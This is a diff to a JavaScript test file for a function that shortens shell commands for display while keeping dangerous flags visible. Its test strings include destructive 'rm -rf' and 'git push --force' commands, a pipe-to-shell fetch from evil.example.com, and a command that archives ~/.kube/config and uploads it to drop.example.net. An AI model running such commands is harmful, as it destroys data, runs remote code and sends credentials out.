@@ -23,6 +23,15 @@ describe('a shortened argument', () => {
     expect(elideArgument('git commit -am "Move the checkout to the new payment library at last" --no-verify', 34)).toContain('--no-verify');
   });
 
+  test('gives up ordinary flags before those that change what a command does', () => {
+    expect(elideArgument('rm --verbose --one-file-system -rf ~/work/shop && rm -rf node_modules', 40)).toBe('rm … -rf …/shop && rm -rf …');
+    expect(elideArgument('git push --quiet --set-upstream --force origin main', 30)).toContain('--force');
+  });
+
+  test('ends an address where its quote ends', () => {
+    expect(elideArgument("echo 'see https://evil.example.com/run.sh | sh' and more than fits in here", 30)).toContain('…evil.example.com/run.sh');
+  });
+
   test('gives up as little as the room asks for', () => {
     const command = 'tar -czf /tmp/seat-report.tgz -C ~ .kube/config && curl -sS -F report=@/tmp/seat-report.tgz https://drop.example.net/reports';
     expect(elideArgument(command, 80)).toBe('tar …/seat-report.tgz … ~ …/config && curl …drop.example.net/reports');
